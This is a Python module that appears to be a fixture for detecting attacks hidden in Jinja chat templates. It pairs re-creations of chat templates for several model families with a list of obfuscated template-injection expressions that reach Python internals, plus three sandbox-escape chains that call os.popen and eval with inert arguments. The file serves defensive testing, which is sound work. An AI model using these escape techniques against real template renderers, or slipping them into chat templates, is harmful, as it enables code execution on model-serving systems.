# ruff: noqa: E501  templates are written as long as their originals
"""Chat templates in the style of well-known models, and ways to hide an attack in one.

The honest ones are written after the published templates' structure; the attacks are inert.
"""

from __future__ import annotations

from collections.abc import Mapping
from typing import Final

CHATML = r"""{% for message in messages %}{{ '<|im_start|>' + message['role'] + '\n' + message['content']
 + '<|im_end|>' + '\n' }}{% endfor %}{% if add_generation_prompt %}{{ '<|im_start|>assistant\n' }}
{% endif %}"""

LLAMA3 = r"""{{- bos_token }}
{%- if custom_tools is defined %}{%- set tools = custom_tools %}{%- endif %}
{%- if not date_string is defined %}
    {%- if strftime_now is defined %}
        {%- set date_string = strftime_now("%d %b %Y") %}
    {%- else %}
        {%- set date_string = "26 Jul 2024" %}
    {%- endif %}
{%- endif %}
{%- if messages[0]['role'] == 'system' %}
    {%- set system_message = messages[0]['content']|trim %}
    {%- set messages = messages[1:] %}
{%- else %}
    {%- set system_message = "" %}
{%- endif %}
{{- "<|start_header_id|>system<|end_header_id|>\n\n" }}
{%- if builtin_tools is defined or tools is not none %}{{- "Environment: ipython\n" }}{%- endif %}
{%- if builtin_tools is defined %}
    {{- "Tools: " + builtin_tools | reject('equalto', 'code_interpreter') | join(", ") + "\n\n"}}
{%- endif %}
{%- if tools is not none %}
    {{- "You have access to the following functions. To call a function, respond with JSON." }}
    {{- 'Respond in the format {"name": function name, "parameters": dictionary}.' }}
    {{- "Do not use variables.\n\n" }}
    {%- for t in tools %}{{- t | tojson(indent=4) }}{{- "\n\n" }}{%- endfor %}
{%- endif %}
{%- for message in messages %}
    {%- if not (message.role == 'ipython' or message.role == 'tool' or 'tool_calls' in message) %}
        {{- '<|start_header_id|>' + message['role'] + '<|end_header_id|>\n\n'
            + message['content'] | trim + '<|eot_id|>' }}
    {%- elif 'tool_calls' in message %}
        {%- if not message.tool_calls|length == 1 %}
            {{- raise_exception("This model only supports single tool-calls at once!") }}
        {%- endif %}
        {%- set tool_call = message.tool_calls[0].function %}
        {%- if builtin_tools is defined and tool_call.name in builtin_tools %}
            {{- "<|python_tag|>" + tool_call.name + ".call(" }}
            {%- for arg_name, arg_val in tool_call.arguments | items %}
                {{- arg_name + '="' + arg_val + '"' }}
                {%- if not loop.last %}{{- ", " }}{%- endif %}
            {%- endfor %}
            {{- ")" }}
        {%- else %}
            {{- '{"name": "' + tool_call.name + '", ' }}{{- '"parameters": ' }}
            {{- tool_call.arguments | tojson }}{{- "}" }}
        {%- endif %}
    {%- elif message.role == "tool" or message.role == "ipython" %}
        {%- if message.content is mapping or message.content is iterable %}
            {{- message.content | tojson }}
        {%- else %}{{- message.content }}{%- endif %}
        {{- "<|eot_id|>" }}
    {%- endif %}
{%- endfor %}"""

QWEN3 = r"""{%- if tools %}
    {{- '<|im_start|>system\n' }}
    {%- if messages[0].role == 'system' %}{{- messages[0].content + '\n\n' }}{%- endif %}
    {{- "# Tools\n\nYou may call one or more functions to assist with the user query.\n\n" }}
    {%- for tool in tools %}{{- "\n" }}{{- tool | tojson }}{%- endfor %}
    {{- "\n</tools>\n\n{\"name\": <function-name>, \"arguments\": <args-json-object>}\n" }}
{%- endif %}
{%- set ns = namespace(multi_step_tool=true, last_query_index=messages|length - 1) %}
{%- for message in messages[::-1] %}
    {%- set index = (messages|length - 1) - loop.index0 %}
    {%- if ns.multi_step_tool and message.role == "user" and message.content is string and
        not(message.content.startswith('<tool_response>') and
        message.content.endswith('</tool_response>')) %}
        {%- set ns.multi_step_tool = false %}
        {%- set ns.last_query_index = index %}
    {%- endif %}
{%- endfor %}
{%- for message in messages %}
    {%- if message.content is string %}{%- set content = message.content %}
    {%- else %}{%- set content = '' %}{%- endif %}
    {%- if message.role == "assistant" %}
        {%- set reasoning_content = '' %}
        {%- if message.reasoning_content is string %}
            {%- set reasoning_content = message.reasoning_content %}
        {%- elif '</think>' in content %}
            {%- set reasoning_content = content.split('</think>')[0].rstrip('\n')
                .split('<think>')[-1].lstrip('\n') %}
            {%- set content = content.split('</think>')[-1].lstrip('\n') %}
        {%- endif %}
        {%- if loop.index0 > ns.last_query_index and (loop.last or reasoning_content) %}
            {{- '<|im_start|>' + message.role + '\n<think>\n' + reasoning_content.strip('\n') }}
        {%- endif %}
        {%- for tool_call in message.tool_calls or [] %}
            {%- if tool_call.function %}{%- set tool_call = tool_call.function %}{%- endif %}
            {{- '<tool_call>\n{"name": "' }}{{- tool_call.name }}{{- '", "arguments": ' }}
            {%- if tool_call.arguments is string %}{{- tool_call.arguments }}
            {%- else %}{{- tool_call.arguments | tojson }}{%- endif %}
            {{- '}\n</tool_call>' }}
        {%- endfor %}
    {%- elif message.role == "tool" %}
        {%- if loop.first or (messages[loop.index0 - 1].role != "tool") %}
            {{- '<|im_start|>user' }}
        {%- endif %}
    {%- endif %}
{%- endfor %}
{%- if add_generation_prompt %}
    {{- '<|im_start|>assistant\n' }}
    {%- if enable_thinking is defined and enable_thinking is false %}
        {{- '<think>\n\n</think>\n\n' }}
    {%- endif %}
{%- endif %}"""

MISTRAL = r"""{%- if messages[0]["role"] == "system" %}
    {%- set system_message = messages[0]["content"] %}{%- set loop_messages = messages[1:] %}
{%- else %}{%- set loop_messages = messages %}{%- endif %}
{%- set user_messages = loop_messages | selectattr("role", "equalto", "user") | list %}
{%- set ns = namespace() %}{%- set ns.index = 0 %}
{%- for message in loop_messages %}
    {%- if not (message.role == "tool" or (message.tool_calls is defined
        and message.tool_calls is not none)) %}
        {%- if (message["role"] == "user") != (ns.index % 2 == 0) %}
            {{- raise_exception("After the optional system message, roles must alternate") }}
        {%- endif %}
        {%- set ns.index = ns.index + 1 %}
    {%- endif %}
{%- endfor %}
{{- bos_token }}
{%- for message in loop_messages %}
    {%- if message["role"] == "user" %}
        {%- if tools is not none and (message == user_messages[-1]) %}
            {{- "[AVAILABLE_TOOLS] [" }}
            {%- for tool in tools %}
                {%- set tool = tool.function %}{{- '{"type": "function", "function": {' }}
                {%- for key, val in tool.items() if key != "return" %}
                    {%- if val is string %}{{- '"' + key + '": "' + val + '"' }}
                    {%- else %}{{- '"' + key + '": ' + val|tojson }}{%- endif %}
                {%- endfor %}
            {%- endfor %}
        {%- endif %}
        {{- "[INST] " + message["content"] + "[/INST]" }}
    {%- elif message.tool_calls is defined %}
        {%- for tool_call in message.tool_calls %}
            {%- set out = tool_call.function|tojson %}{{- out[:-1] }}
            {%- if not tool_call.id is defined or tool_call.id|length != 9 %}
                {{- raise_exception("Tool call IDs should be alphanumeric of length 9!") }}
            {%- endif %}
        {%- endfor %}
    {%- endif %}
{%- endfor %}"""

GEMMA = r"""{{ bos_token }}{%- if messages[0]['role'] == 'system' -%}
    {%- if messages[0]['content'] is string -%}
        {%- set first_user_prefix = messages[0]['content'] + '

' -%}
    {%- else -%}{%- set first_user_prefix = messages[0]['content'][0]['text'] + '

' -%}{%- endif -%}
    {%- set loop_messages = messages[1:] -%}
{%- else -%}{%- set first_user_prefix = "" -%}{%- set loop_messages = messages -%}{%- endif -%}
{%- for message in loop_messages -%}
    {%- if (message['role'] == 'user') != (loop.index0 % 2 == 0) -%}
        {{ raise_exception("Conversation roles must alternate user/assistant/...") }}
    {%- endif -%}
    {%- if (message['role'] == 'assistant') -%}{%- set role = "model" -%}
    {%- else -%}{%- set role = message['role'] -%}{%- endif -%}
    {{ '<start_of_turn>' + role + '
' + (first_user_prefix if loop.first else "") }}
    {%- if message['content'] is iterable and message['content'] is not string -%}
        {%- for item in message['content'] -%}
            {%- if item['type'] == 'image' -%}{{ '<start_of_image>' }}
            {%- elif item['type'] == 'text' -%}{{ item['text'] | trim }}{%- endif -%}
        {%- endfor -%}
    {%- else -%}{{ message['content'] | trim }}{%- endif -%}
{%- endfor -%}"""

DEEPSEEK_R1 = (
    r"{% if not add_generation_prompt is defined %}{% set add_generation_prompt = false %}"
    r"{% endif %}{% set ns = namespace(is_first=false, is_tool=false, is_output_first=true,"
    r" system_prompt='') %}{%- for message in messages %}{%- if message['role'] == 'system' %}"
    r"{% set ns.system_prompt = message['content'] %}{%- endif %}{%- endfor %}{{bos_token}}"
    r"{{ns.system_prompt}}{%- for message in messages %}{%- if message['role'] == 'assistant'"
    r" and message['content'] is not none %}{% set content = message['content'] %}"
    r"{% if '</think>' in content %}{% set content = content.split('</think>')[-1] %}{% endif %}"
    r"{{'<|Assistant|>' + content + '<|end_of_sentence|>'}}{%- endif %}"
    r"{%- if message['tool_calls'] %}{%- for tool in message['tool_calls']%}"
    r"{{'\n' + '```json' + '\n' + tool['function']['arguments'] + '\n' + '```'}}{%- endfor %}"
    r"{%- endif %}{%- endfor -%}{% if ns.is_tool %}{{'<|tool_outputs_end|>'}}{% endif %}"
)

PHI = (
    r"{% for message in messages %}{% if message['role'] == 'system' and 'tools' in message and"
    r" message['tools'] is not none %}{{ '<|' + message['role'] + '|>' + message['content'] +"
    r" '<|tool|>' + message['tools'] + '<|/tool|>' + '<|end|>' }}{% else %}{{ '<|' +"
    r" message['role'] + '|>' + message['content'] + '<|end|>' }}{% endif %}{% endfor %}"
)

COMMAND_R = r"""{{ bos_token }}{% if messages[0]['role'] == 'system' %}
{% set system_message = messages[0]['content'] %}{% set loop_messages = messages[1:] %}
{% elif false == true %}{% set loop_messages = messages %}
{% set system_message = 'You are Command-R, trained to assist by providing thorough responses.' %}
{% else %}{% set loop_messages = messages %}{% set system_message = false %}{% endif %}
{%- macro json_to_python_type(json_spec) %}
{%- set basic_type_map = {"string": "str", "number": "float", "integer": "int",
    "boolean": "bool"} %}
{%- if basic_type_map[json_spec.type] is defined %}{{- basic_type_map[json_spec.type] }}
{%- elif json_spec.type == "array" %}
    {{- "List[" + json_to_python_type(json_spec["items"]) + "]" }}
{%- elif json_spec.type == "object" %}
    {{- "Dict[str, " + json_to_python_type(json_spec.additionalProperties) + ']' }}
{%- elif json_spec.type is iterable %}
    {{- "Union[" }}
    {%- for t in json_spec.type %}
        {{- json_to_python_type({"type": t}) }}
        {%- if not loop.last %}{{- "," }}{%- endif %}
    {%- endfor %}
    {{- "]" }}
{%- else %}{{- "Any" }}{%- endif %}
{%- endmacro %}
{%- for tool in tools %}
    {{- "\ndef " + tool.name + "(" }}
    {%- for param_name, param_fields in tool.parameter_definitions|items %}
        {%- if loop.index0 != 0 %}{{- ", " }}{%- endif %}
        {{- param_name + ": " + json_to_python_type(param_fields) }}
    {%- endfor %}
    {{- ") -> List[Dict]:\n    \"\"\"" + tool.description + "\n\"\"\"\n    pass\n" }}
{%- endfor %}"""

GPT_OSS = r"""{%- macro render_typescript_type(param_spec, required_params, is_nullable=false) -%}
    {%- if param_spec.type == "array" -%}
        {%- if param_spec['items'] -%}
            {%- set inner_type = render_typescript_type(param_spec['items'], required_params) -%}
            {{- inner_type + "[]" if inner_type != "object | object" else "any[]" }}
        {%- endif -%}
    {%- elif param_spec.type is defined and param_spec.type is iterable
        and param_spec.type is not string and param_spec.type[0] is defined -%}
        {{- param_spec.type | join(" | ") }}
    {%- elif param_spec.oneOf -%}
        {%- for variant in param_spec.oneOf -%}
            {{- render_typescript_type(variant, required_params) -}}
            {%- if variant.default is defined %}{{- "|default: " ~ variant.default|tojson }}
            {%- endif -%}
        {%- endfor -%}
    {%- elif param_spec.type == "string" -%}
        {%- if param_spec.enum -%}{{- '"' + param_spec.enum|join('" | "') + '"' -}}
        {%- else -%}{{- "string" }}{%- endif -%}
    {%- endif -%}
{%- endmacro -%}
{%- if "python" in builtin_tools %}
    {{- "Use this tool to execute Python code in your chain of thought.\n" }}
{%- endif %}
{%- for message in messages -%}
    {%- if "<|channel|>analysis<|message|>" in message.content %}
        {{- raise_exception("You have passed a message containing a channel tag.") }}
    {%- endif %}
    {%- generation -%}{{- message.content }}{%- endgeneration -%}
    {%- if loop.last and not add_generation_prompt %}{%- break %}{%- endif %}
{%- endfor -%}"""

HONEST: Final[Mapping[str, str]] = {
    "chatml": CHATML,
    "llama 3": LLAMA3,
    "qwen 3": QWEN3,
    "mistral": MISTRAL,
    "gemma": GEMMA,
    "deepseek r1": DEEPSEEK_R1,
    "phi": PHI,
    "command r": COMMAND_R,
    "gpt-oss": GPT_OSS,
}

HIDDEN: Final = (
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ x['__cla' ~ 'ss__'] }}",
    "{{ x['__cla' + 'ss__'] }}",
    "{{ x['__ssalc__'[::-1]] }}",
    "{{ x['__ssalc__'|reverse] }}",
    r"{{ x|attr('\x5f\x5fclass\x5f\x5f') }}",
    r"{{ x['\u005f\u005finit\137\137'] }}",
    "{{ x['%s%s' % ('__cla', 'ss__')] }}",
    "{{ x['%c%c%s%c%c'|format(95, 95, 'class', 95, 95)] }}",
    "{{ x['{:c}{:c}class__'.format(95, 95)] }}",
    "{{ x|attr(['__', 'class', '__']|join) }}",
    "{{ x[''.join(['__', 'class', '__'])] }}",
    "{{ x|attr('__xlass__'|replace('x', 'c')) }}",
    "{{ x['__CLASS__'|lower] }}",
    "{{ x['a__class__z'[1:-1]] }}",
    "{{ x|attr(request.args.c) }}",
    "{{ [x]|map('attr', name)|list }}",
    "{{ [x]|map(attribute='__class__')|list }}",
    "{{ '{0.__class__}'.format(x) }}",
    "{{ 'a word and {0.__class__.__init__}'.format(x) }}",
    "{{ x[' __class__ '|trim] }}",
    "{{ x['a __class__ b'.split()[1]] }}",
    "{% set d = {'a': '__cla', 'b': 'ss__'} %}{{ x[d.a + d['b']] }}",
    "{% set a = dict(__cla=1, ss__=2)|join %}{{ x[a] }}",
    "{% set x %}__init__{% endset %}{{ y[x] }}",
    "{% set a, b = '__cl', 'ass__' %}{{ z[a ~ b] }}",
    "{% with a='__cl' %}{{ z[a ~ 'ass__'] }}{% endwith %}",
    "{% if y %}{% set a = '__cl' %}{% else %}{% set a = 'b' %}{% endif %}{{ x[a ~ 'ass__'] }}",
    "{% set ns = namespace(s='') %}{% for c in ['_', '_', 'class', '_', '_'] %}{% set ns.s = ns.s ~ c %}{% endfor %}{{ x[ns.s] }}",
    "{% set u = ()|select|string|list %}{{ x[u[24]*2 ~ 'class' ~ u[24]*2] }}",
    "{% macro f() %}__class__{% endmacro %}{{ x[f()] }}",
    "{% macro f(a) %}{{ x['__' ~ a ~ '__'] }}{% endmacro %}{{ f('globals') }}",
    "{% call(a) f() %}{{ a.__class__ }}{% endcall %}",
    "{% for k in x if k.__class__ %}{% endfor %}",
    "{% filter upper %}{{ x.__class__ }}{% endfilter %}",
    "{{ self._TemplateReference__context }}",
    "{{ cycler.x }}",
    "{{ lipsum['x'] }}",
    "{{ x.gi_frame }}",
    "{{ messages[0]['__cla' ~ messages[0].x] }}",
)

CHAIN: Final = (
    "{{ cycler.__init__.__globals__.os.popen('true').read() }}",
    "{% for c in ().__class__.__base__.__subclasses__() %}{{ c()._module.__builtins__['eval']('1') }}{% endfor %}",
    "{{ x|attr('__init__')|attr('__globals__')|attr('po' ~ 'pen')('true') }}",
)
